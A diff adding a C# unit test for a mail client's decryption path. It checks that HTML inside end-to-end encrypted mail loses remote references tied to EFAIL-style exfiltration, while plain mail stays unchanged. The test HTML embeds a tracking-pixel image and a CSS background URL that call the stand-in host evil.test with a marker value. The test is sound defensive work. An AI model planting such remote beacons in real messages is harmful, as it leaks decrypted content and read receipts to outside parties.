@@ -188,6 +188,36 @@ public sealed class MailProcessorTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task Decrypted_html_loses_its_remote_references_and_keeps_its_text()
+    {
+        // EFAIL's direct exfiltration and read receipts need the mail app to fetch a URL after decryption.
+        string html = $"<html><body><p>Plan {Marker}</p><img src=\"https://evil.test/pixel?{Marker}\">" +
+            "<div style=\"background:url(https://evil.test/bg)\">x</div><a href=\"https://example.org/\">link</a></body></html>";
+        var inner = Encoding.UTF8.GetBytes(
+            "From: Bob <bob@beta.test>\r\nTo: Alice <alice@alpha.test>\r\nSubject: html\r\nMIME-Version: 1.0\r\n" +
+            "Content-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n");
+        var (code, armored, err) = await _gpg.RunAsync(inner, "--armor", "--sign", "--encrypt", "--local-user", "bob@beta.test", "--recipient", "alice@alpha.test");
+        Assert.True(code == 0, err);
+        string envelope = "From: Bob <bob@beta.test>\r\nTo: Alice <alice@alpha.test>\r\nSubject: ...\r\nMIME-Version: 1.0\r\n" +
+            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b1\"\r\n\r\n" +
+            "--b1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n" +
+            "--b1\r\nContent-Type: application/octet-stream\r\n\r\n" + Encoding.ASCII.GetString(armored) + "\r\n--b1--\r\n";
+
+        var incoming = new IncomingMailProcessor(_store, _alice, _aliceKey);
+        var result = await incoming.ProcessAsync(Encoding.UTF8.GetBytes(envelope));
+        Assert.Equal(EncryptionState.EndToEnd, result.Security.Encryption);
+        var stored = await MimeMessage.LoadAsync(new MemoryStream(await _store.Messages.ReadBodyAsync(result.Message.Id)));
+        Assert.Contains($"Plan {Marker}", stored.HtmlBody, StringComparison.Ordinal);
+        Assert.Contains("https://example.org/", stored.HtmlBody, StringComparison.Ordinal);
+        Assert.DoesNotContain("evil.test", stored.HtmlBody, StringComparison.Ordinal);
+
+        // Mail that was never end-to-end encrypted is what its sender wrote: the mail app's own rules apply.
+        var plain = await incoming.ProcessAsync(Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(inner).Replace("Subject: html", "Subject: plain html", StringComparison.Ordinal)));
+        Assert.Equal(EncryptionState.None, plain.Security.Encryption);
+        Assert.Contains("evil.test/pixel", Encoding.UTF8.GetString(await _store.Messages.ReadBodyAsync(plain.Message.Id)), StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task Two_letterlock_accounts_exchange_keys_by_autocrypt_and_read_each_other()
     {
         var bob = await _store.Accounts.CreateAsync("bob@beta.test", "Bob", null);
